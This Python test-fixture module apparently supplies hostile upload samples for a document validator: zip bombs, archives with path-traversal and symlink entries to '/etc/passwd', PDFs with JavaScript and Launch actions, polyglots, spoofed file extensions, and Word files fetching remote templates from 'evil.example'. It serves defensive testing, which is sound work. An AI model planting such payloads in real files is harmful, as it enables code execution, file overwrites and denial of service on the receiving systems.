"""Small documents, and files that attack whoever takes or opens them."""

import io
import stat
import zipfile
import zlib
from collections.abc import Callable

from tests.files.samples import EXE, HTML, ODT, PDF, PNG, SVG, XLSX, ZIP

TYPES = (
    b'<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'wordprocessingml.document.main+xml"/></Types>'
)
MACRO_TYPES = TYPES.replace(
    b"vnd.openxmlformats-officedocument.wordprocessingml.document.main", b"vnd.ms-word.document.macroEnabled.main"
)
RELS = b'<Relationships><Relationship Type="attachedTemplate" Target="%s" TargetMode="External"/></Relationships>'
SETTINGS, PARTS = "word/_rels/settings.xml.rels", "word/_rels/document.xml.rels"
SPOKEN = b"%%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /%s /JS (app.alert(1)) >> >>\nendobj\n%%%%EOF\n"


def word(*more: tuple[str | zipfile.ZipInfo, bytes], types: bytes = TYPES, packed: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as archive:
        for name, content in (("[Content_Types].xml", types), ("_rels/.rels", b"<R/>"), ("word/document.xml", b"<w/>")):
            archive.writestr(name, content)
        for part, content in more:
            archive.writestr(part, content)
    return out.getvalue()


DOCX = word()


def _link() -> bytes:
    part = zipfile.ZipInfo("word/media/a.png")
    part.external_attr = (stat.S_IFLNK | 0o777) << 16
    return word((part, b"/etc/passwd"))


def _locked() -> bytes:
    return DOCX.replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00")


def _bomb() -> bytes:
    """A hundredth of a megabyte that says it is 64 MB of one letter."""
    return word(("word/media/a.bin", b"a" * 64 * 1024 * 1024), packed=True)


def _overlapping() -> bytes:
    """Twenty names for the bytes of one part: more is unpacked than is there."""
    content = b"a" * 1000
    kernel = zlib.compress(content)[2:-4]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in (("[Content_Types].xml", TYPES), ("word/document.xml", b"<w/>")):
            archive.writestr(name, text)
        archive.writestr("word/a0", content)
        first = archive.getinfo("word/a0")
        for number in range(1, 20):
            copy = zipfile.ZipInfo(f"word/a{number}")
            copy.header_offset, copy.compress_type = first.header_offset, zipfile.ZIP_DEFLATED
            copy.file_size, copy.compress_size, copy.CRC = len(content), len(kernel), first.CRC
            archive.filelist.append(copy)
            archive.NameToInfo[copy.filename] = copy
    return out.getvalue()


def _lying() -> bytes:
    """A part that says it is smaller than what it unpacks to."""
    whole = word(("[Content_Types].xml.rels", b"b" * 5000), packed=True)
    return whole.replace((5000).to_bytes(4, "little"), (3_000_000_000).to_bytes(4, "little"))


def _damaged() -> bytes:
    """Its parts are packed, and a bit of what is packed has changed on the way."""
    whole = bytearray(word(types=TYPES * 9, packed=True))
    whole[whole.index(b"[Content_Types].xml") + 40] ^= 255
    return bytes(whole)


def _many() -> bytes:
    return word(*((f"word/{number}.xml", b"") for number in range(2001)))


#: What it is: name, bytes. Made when they are asked for, since some are large.
HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a page called PDF": ("cv.pdf", lambda: HTML),
    "a picture with script called PDF": ("cv.pdf", lambda: SVG),
    "a program called PDF": ("cv.pdf", lambda: EXE),
    "a program called Word": ("cv.docx", lambda: EXE),
    "a picture called PDF": ("cv.pdf", lambda: PNG),
    "a page in front of a PDF": ("cv.pdf", lambda: HTML + PDF),
    "a page inside the head of a PDF": ("cv.pdf", lambda: b"%PDF-1.7\n" + HTML + PDF),
    "a page behind a PDF": ("cv.pdf", lambda: PDF + HTML),
    "an archive behind a PDF": ("cv.pdf", lambda: PDF + DOCX),
    "an archive inside a PDF": ("cv.pdf", lambda: PDF + DOCX + b"\n%%EOF\n"),
    "a PDF inside an archive": ("cv.docx", lambda: word(("word/a.pdf", PDF)) + PDF),
    "something in front of an archive": ("cv.docx", lambda: EXE + DOCX),
    "a PDF with a script": ("cv.pdf", lambda: SPOKEN % b"JavaScript"),
    "a PDF with a script, written by numbers": ("cv.pdf", lambda: SPOKEN % b"J#61vaScript"),
    "a PDF that starts a program": ("cv.pdf", lambda: SPOKEN % b"Launch"),
    "a PDF without an end": ("cv.pdf", lambda: PDF[:20]),
    "a PDF called Word": ("cv.docx", lambda: PDF),
    "a Word document called PDF": ("cv.pdf", lambda: DOCX),
    "a table called Word": ("cv.docx", lambda: XLSX),
    "an archive called Word": ("cv.docx", lambda: ZIP),
    "an OpenDocument called Word": ("cv.docx", lambda: ODT),
    "another kind": ("cv.odt", lambda: ODT),
    "text": ("cv.txt", lambda: b"My life."),
    "a picture": ("cv.png", lambda: PNG),
    "no ending": ("cv", lambda: PDF),
    "an ending alone": (".pdf", lambda: PDF),
    "a program's ending behind": ("cv.pdf.exe", lambda: PDF),
    "a program's ending before": ("cv.exe.pdf", lambda: PDF),
    "a page's ending before": ("cv.html.pdf", lambda: PDF),
    "two endings of documents": ("cv.pdf.docx", lambda: DOCX),
    "an ending that is written backwards": ("cv\u202efdp.exe", lambda: PDF),
    "macros by their type": ("cv.docx", lambda: word(types=MACRO_TYPES)),
    "macros by their name": ("cv.docm", lambda: word(types=MACRO_TYPES)),
    "macros by their part": ("cv.docx", lambda: word(("word/vbaProject.bin", b"x"))),
    "a control that is active": ("cv.docx", lambda: word(("word/activeX/activeX1.xml", b"x"))),
    "a file within": ("cv.docx", lambda: word(("word/embeddings/oleObject1.bin", b"x"))),
    "a program within": ("cv.docx", lambda: word(("word/media/run.exe", EXE))),
    "an archive within": ("cv.docx", lambda: word(("word/media/more.zip", ZIP))),
    "a template from the net": ("cv.docx", lambda: word((SETTINGS, RELS % b"https://evil.example/t.dotm"))),
    "a template from another machine": ("cv.docx", lambda: word((SETTINGS, RELS % rb"\\evil.example\t.dotm"))),
    "a template from a machine, as if it were a disk": (
        "cv.docx",
        lambda: word((SETTINGS, RELS % b"file:////evil.example/t.dotm")),
    ),
    "a template in other letters": (
        "cv.docx",
        lambda: word((SETTINGS, (RELS % b"https://evil.example/t.dotm").decode().encode("utf-16"))),
    ),
    "a template spelt by numbers": ("cv.docx", lambda: word((SETTINGS, RELS % b"&#104;ttps://evil.example/t.dotm"))),
    "a template by a word of its own": (
        "cv.docx",
        lambda: word((SETTINGS, b"<!DOCTYPE r [<!ENTITY w 'https:'>]>" + RELS % b"&w;//evil.example/t.dotm")),
    ),
    "a template of settings that are called otherwise": (
        "cv.docx",
        lambda: word(("word/_rels/Other.xml.RELS", RELS % b"https://evil.example/t.dotm")),
    ),
    "a picture from the net": (
        "cv.docx",
        lambda: word((PARTS, RELS.replace(b"attachedTemplate", b"image") % b"https://evil.example/seen.png")),
    ),
    "references without end": ("cv.docx", lambda: word((PARTS, b" " * 5 * 1024 * 1024))),
    "a document that was damaged on its way": ("cv.docx", _damaged),
    "a part above its folder": ("cv.docx", lambda: word(("../../etc/cron.d/x", b"x"))),
    "a part at the root": ("cv.docx", lambda: word(("/etc/cron.d/x", b"x"))),
    "a part on a drive": ("cv.docx", lambda: word(("C:\\x.dll", b"x"))),
    "a link out of the archive": ("cv.docx", _link),
    "a part that nobody can look at": ("cv.docx", _locked),
    "a bomb": ("cv.docx", _bomb),
    "a bomb of one part with many names": ("cv.docx", _overlapping),
    "a part that lies about its size": ("cv.docx", _lying),
    "more parts than a document has": ("cv.docx", _many),
    "half of an archive": ("cv.docx", lambda: DOCX[: len(DOCX) // 2]),
    "an archive without a list": ("cv.docx", lambda: DOCX[:-22]),
    "an archive without a document": ("cv.docx", lambda: word(types=b"")),
    "nothing": ("cv.pdf", lambda: b""),
    "one byte too many": ("cv.pdf", lambda: PDF[:-6] + bytes(10 * 1024 * 1024 - len(PDF) + 1) + b"%%EOF\n"),
}
